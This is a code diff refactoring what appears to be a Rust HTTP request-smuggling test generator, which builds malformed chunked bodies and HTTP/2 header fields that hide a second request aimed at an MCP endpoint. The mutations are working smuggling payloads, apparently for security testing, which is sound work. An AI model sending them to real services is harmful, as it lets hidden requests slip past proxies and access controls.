@@ -13,6 +13,13 @@ pub struct Parts<'a> {
     pub inner: &'a str,
 }
 
+const PSEUDO: [(&str, &str); 4] = [
+    (":method", "POST"),
+    (":scheme", "http"),
+    (":path", "/mcp"),
+    (":authority", "orders.shop.svc"),
+];
+
 /// The name of a mutation, and its bytes.
 pub type Mutation = (String, Vec<u8>);
 
@@ -20,6 +27,167 @@ fn body(tool: &str) -> String {
     format!(
         r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"{tool}","arguments":{{}}}}}}"#
     )
+}
+
+/// Sizes that are no plain hexadecimal number, or stand alone.
+fn chunk_sizes(outer: &str, hidden: &str) -> Vec<(&'static str, String)> {
+    let n = outer.len();
+    vec![
+        (
+            "size with 0x",
+            format!("0x{n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "size with +",
+            format!("+{n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "size with -",
+            format!("-{n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "size with zeros",
+            format!("{n:016x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "size with many zeros",
+            format!("{n:0300x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "size in capitals",
+            format!("{n:X}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "size and a space",
+            format!("{n:x} \r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "a space and the size",
+            format!(" {n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "size and a tab",
+            format!("{n:x}\t\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "size of 2^64 more",
+            format!("1{n:016x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "size of 2^32 more",
+            format!("1{n:08x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        ("no size", format!("\r\n{outer}\r\n0\r\n\r\n{hidden}")),
+        (
+            "size and a bare LF",
+            format!("{n:x}\n{outer}\n0\n\n{hidden}"),
+        ),
+        (
+            "size and a bare CR",
+            format!("{n:x}\r{outer}\r0\r\r{hidden}"),
+        ),
+        (
+            "a byte a chunk",
+            outer
+                .bytes()
+                .map(|byte| format!("1\r\n{}\r\n", char::from(byte)))
+                .collect::<String>()
+                + "0\r\n\r\n"
+                + hidden,
+        ),
+    ]
+}
+
+/// Extensions, by which the line of a size may end elsewhere.
+fn chunk_extensions(outer: &str, hidden: &str) -> Vec<(&'static str, String)> {
+    let n = outer.len();
+    vec![
+        (
+            "extension",
+            format!("{n:x};a=b\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "extension with a bare LF",
+            format!("{n:x};a\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "extension with a bare CR",
+            format!("{n:x};a\rb\r\n{outer}\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "extension in quotes with a line break",
+            format!("{n:x};a=\"\r\n{outer}\r\n0\r\n\r\n{hidden}\""),
+        ),
+        (
+            "long extension",
+            format!(
+                "{n:x};{}\r\n{outer}\r\n0\r\n\r\n{hidden}",
+                "a".repeat(20_000)
+            ),
+        ),
+        (
+            "extension at the end",
+            format!("{n:x}\r\n{outer}\r\n0;a=b\r\n\r\n{hidden}"),
+        ),
+    ]
+}
+
+/// Ends of chunks and of the whole, and trailers.
+fn chunk_ends(outer: &str, hidden: &str) -> Vec<(&'static str, String)> {
+    let n = outer.len();
+    vec![
+        (
+            "no line break after the chunk",
+            format!("{n:x}\r\n{outer}0\r\n\r\n{hidden}"),
+        ),
+        (
+            "more than a line break after the chunk",
+            format!("{n:x}\r\n{outer}xx\r\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "LF after the chunk",
+            format!("{n:x}\r\n{outer}\n0\r\n\r\n{hidden}"),
+        ),
+        (
+            "chunk longer than said",
+            format!("{n:x}\r\n{outer}{hidden}\r\n0\r\n\r\n"),
+        ),
+        (
+            "several zeros at the end",
+            format!("{n:x}\r\n{outer}\r\n000\r\n\r\n{hidden}"),
+        ),
+        (
+            "end without its empty line",
+            format!("{n:x}\r\n{outer}\r\n0\r\n{hidden}"),
+        ),
+        ("end with LF", format!("{n:x}\r\n{outer}\r\n0\n\n{hidden}")),
+        (
+            "trailers",
+            format!("{n:x}\r\n{outer}\r\n0\r\nX: y\r\n\r\n{hidden}"),
+        ),
+        (
+            "Content-Length as a trailer",
+            format!(
+                "{n:x}\r\n{outer}\r\n0\r\nContent-Length: {}\r\n\r\n{hidden}",
+                hidden.len()
+            ),
+        ),
+        (
+            "Transfer-Encoding as a trailer",
+            format!("{n:x}\r\n{outer}\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n{hidden}"),
+        ),
+        (
+            "Authorization as a trailer",
+            format!("{n:x}\r\n{outer}\r\n0\r\nAuthorization: x\r\n\r\n{hidden}"),
+        ),
+        (
+            "trailer without a colon",
+            format!(
+                "{n:x}\r\n{outer}\r\n0\r\n{}\r\n\r\n",
+                hidden.lines().next().unwrap_or_default()
+            ),
+        ),
+    ]
 }
 
 impl Parts<'_> {
@@ -252,154 +420,16 @@ impl Parts<'_> {
     /// Chunks whose size or end is read in two ways.
     fn chunks(&self) -> Vec<Mutation> {
         let (outer, hidden) = (body(self.outer), self.hidden());
-        let n = outer.len();
-        let bodies = [
-            (
-                "size with 0x",
-                format!("0x{n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "size with +",
-                format!("+{n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "size with -",
-                format!("-{n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "size with zeros",
-                format!("{n:016x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "size with many zeros",
-                format!("{n:0300x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "size in capitals",
-                format!("{n:X}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "size and a space",
-                format!("{n:x} \r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "a space and the size",
-                format!(" {n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "size and a tab",
-                format!("{n:x}\t\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "size of 2^64 more",
-                format!("1{n:016x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "size of 2^32 more",
-                format!("1{n:08x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            ("no size", format!("\r\n{outer}\r\n0\r\n\r\n{hidden}")),
-            (
-                "extension",
-                format!("{n:x};a=b\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "extension with a bare LF",
-                format!("{n:x};a\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "extension with a bare CR",
-                format!("{n:x};a\rb\r\n{outer}\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "extension in quotes with a line break",
-                format!("{n:x};a=\"\r\n{outer}\r\n0\r\n\r\n{hidden}\""),
-            ),
-            (
-                "long extension",
-                format!(
-                    "{n:x};{}\r\n{outer}\r\n0\r\n\r\n{hidden}",
-                    "a".repeat(20_000)
-                ),
-            ),
-            (
-                "size and a bare LF",
-                format!("{n:x}\n{outer}\n0\n\n{hidden}"),
-            ),
-            (
-                "size and a bare CR",
-                format!("{n:x}\r{outer}\r0\r\r{hidden}"),
-            ),
-            (
-                "no line break after the chunk",
-                format!("{n:x}\r\n{outer}0\r\n\r\n{hidden}"),
-            ),
-            (
-                "more than a line break after the chunk",
-                format!("{n:x}\r\n{outer}xx\r\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "LF after the chunk",
-                format!("{n:x}\r\n{outer}\n0\r\n\r\n{hidden}"),
-            ),
-            (
-                "chunk longer than said",
-                format!("{n:x}\r\n{outer}{hidden}\r\n0\r\n\r\n"),
-            ),
-            (
-                "several zeros at the end",
-                format!("{n:x}\r\n{outer}\r\n000\r\n\r\n{hidden}"),
-            ),
-            (
-                "extension at the end",
-                format!("{n:x}\r\n{outer}\r\n0;a=b\r\n\r\n{hidden}"),
-            ),
-            (
-                "end without its empty line",
-                format!("{n:x}\r\n{outer}\r\n0\r\n{hidden}"),
-            ),
-            ("end with LF", format!("{n:x}\r\n{outer}\r\n0\n\n{hidden}")),
-            (
-                "trailers",
-                format!("{n:x}\r\n{outer}\r\n0\r\nX: y\r\n\r\n{hidden}"),
-            ),
-            (
-                "Content-Length as a trailer",
-                format!(
-                    "{n:x}\r\n{outer}\r\n0\r\nContent-Length: {}\r\n\r\n{hidden}",
-                    hidden.len()
-                ),
-            ),
-            (
-                "Transfer-Encoding as a trailer",
-                format!("{n:x}\r\n{outer}\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n{hidden}"),
-            ),
-            (
-                "Authorization as a trailer",
-                format!("{n:x}\r\n{outer}\r\n0\r\nAuthorization: x\r\n\r\n{hidden}"),
-            ),
-            (
-                "trailer without a colon",
-                format!(
-                    "{n:x}\r\n{outer}\r\n0\r\n{}\r\n\r\n",
-                    hidden.lines().next().unwrap_or_default()
-                ),
-            ),
-            (
-                "a byte a chunk",
-                outer
-                    .bytes()
-                    .map(|byte| format!("1\r\n{}\r\n", char::from(byte)))
-                    .collect::<String>()
-                    + "0\r\n\r\n"
-                    + &hidden,
-            ),
-        ];
         let te = [("Transfer-Encoding", "chunked")];
-        bodies
-            .into_iter()
-            .map(|(name, body)| (format!("chunked: {name}"), self.post(&te, body)))
-            .collect()
+        [
+            chunk_sizes(&outer, &hidden),
+            chunk_extensions(&outer, &hidden),
+            chunk_ends(&outer, &hidden),
+        ]
+        .into_iter()
+        .flatten()
+        .map(|(name, body)| (format!("chunked: {name}"), self.post(&te, body)))
+        .collect()
     }
 
     /// Versions and methods with a body where some expect none.
@@ -615,40 +645,47 @@ impl Parts<'_> {
     /// says beside that, or breaks out of its line with. On stream 1; a good
     /// request follows on stream 3.
     pub fn http2(&self, follow: &str) -> Vec<Mutation> {
-        let (outer, hidden) = (body(self.outer), self.hidden());
-        let (n, broken) = (outer.len().to_string(), format!("x\r\n\r\n{hidden}"));
+        let outer = body(self.outer);
+        let good = [
+            ("content-type", "application/json"),
+            ("accept", "application/json, text/event-stream"),
+            ("authorization", self.bearer),
+        ];
+        let next = [&PSEUDO[..], &[("user-agent", "smuggler")], &good].concat();
+        let next = [
+            h2::frame(h2::HEADERS, h2::END_HEADERS, 3, &h2::fields(&next)),
+            h2::frame(h2::DATA, h2::END_STREAM, 3, body(follow).as_bytes()),
+        ]
+        .concat();
+        let mutation = |odd: OddField| {
+            let mut fields = odd.among(&PSEUDO);
+            if odd.name != "user-agent" {
+                fields.push(("user-agent", "smuggler"));
+            }
+            fields.extend(good);
+            let first = [
+                h2::preface(),
+                h2::frame(h2::HEADERS, h2::END_HEADERS, 1, &h2::fields(&fields)),
+                h2::frame(h2::DATA, h2::END_STREAM, 1, outer.as_bytes()),
+            ];
+            let shown: String = odd.value.chars().take(20).collect();
+            (
+                format!("HTTP/2: {:?} {shown:?}", odd.name),
+                [first.concat(), next.clone()].concat(),
+            )
+        };
+        self.odd_fields().into_iter().map(mutation).collect()
+    }
+
+    fn odd_fields(&self) -> Vec<OddField> {
+        let hidden = self.hidden();
+        let (n, broken) = (
+            body(self.outer).len().to_string(),
+            format!("x\r\n\r\n{hidden}"),
+        );
         let path = format!("/mcp HTTP/1.1\r\nHost: orders.shop.svc\r\n\r\n{hidden}");
         let get = format!("GET /mcp HTTP/1.1\r\n\r\n{hidden}");
-        let pseudo = [
-            (":method", "POST"),
-            (":scheme", "http"),
-            (":path", "/mcp"),
-            (":authority", "orders.shop.svc"),
-        ];
-        let instead = |name: &'static str, value: &str| {
-            let mut fields: Vec<_> = pseudo
-                .iter()
-                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
-                .collect();
-            fields.retain(|(known, _)| known != name);
-            fields.insert(0, (name.to_owned(), value.to_owned()));
-            (
-                format!("{name} {:?}", &value[..value.len().min(20)]),
-                fields,
-            )
-        };
-        let beside = |name: &str, value: &str| {
-            let mut fields: Vec<_> = pseudo
-                .iter()
-                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
-                .collect();
-            fields.push((name.to_owned(), value.to_owned()));
-            (
-                format!("{name:?} {:?}", &value[..value.len().min(20)]),
-                fields,
-            )
-        };
-        let heads = [
+        vec![
             beside("content-length", "0"),
             beside("content-length", "5"),
             beside("content-length", &hidden.len().to_string()),
@@ -697,38 +734,44 @@ impl Parts<'_> {
             instead(":authority", &broken),
             instead(":authority", "x@orders.shop.svc"),
             instead(":authority", ""),
-        ];
-        let good = [
-            ("content-type", "application/json"),
-            ("accept", "application/json, text/event-stream"),
-            ("authorization", self.bearer),
-        ];
-        let pseudo_fields = pseudo.to_vec();
-        let next = h2::fields(&[&pseudo_fields[..], &[("user-agent", "smuggler")], &good].concat());
-        let next = [
-            h2::frame(h2::HEADERS, h2::END_HEADERS, 3, &next),
-            h2::frame(h2::DATA, h2::END_STREAM, 3, body(follow).as_bytes()),
-        ];
-        let mutation = |(name, fields): (String, Vec<(String, String)>)| {
-            let mut all: Vec<_> = fields
-                .iter()
-                .map(|(name, value)| (name.as_str(), value.as_str()))
-                .collect();
-            if !all.iter().any(|(name, _)| *name == "user-agent") {
-                all.push(("user-agent", "smuggler"));
-            }
-            all.extend(good);
-            let first = [
-                h2::preface(),
-                h2::frame(h2::HEADERS, h2::END_HEADERS, 1, &h2::fields(&all)),
-                h2::frame(h2::DATA, h2::END_STREAM, 1, outer.as_bytes()),
-            ];
-            (
-                format!("HTTP/2: {name}"),
-                [first.concat(), next.concat()].concat(),
-            )
-        };
-        heads.into_iter().map(mutation).collect()
+        ]
+    }
+}
+
+/// A header field of HTTP/2 that should not be.
+struct OddField {
+    name: &'static str,
+    value: String,
+    /// In place of the right one, or beside all of them.
+    is_instead: bool,
+}
+
+fn beside(name: &'static str, value: &str) -> OddField {
+    OddField {
+        name,
+        value: value.to_owned(),
+        is_instead: false,
+    }
+}
+
+fn instead(name: &'static str, value: &str) -> OddField {
+    OddField {
+        is_instead: true,
+        ..beside(name, value)
+    }
+}
+
+impl OddField {
+    fn among<'a>(&'a self, right: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
+        let own = (self.name, self.value.as_str());
+        let mut fields = right.to_vec();
+        if self.is_instead {
+            fields.retain(|(name, _)| *name != self.name);
+            fields.insert(0, own);
+        } else {
+            fields.push(own);
+        }
+        fields
     }
 }
 
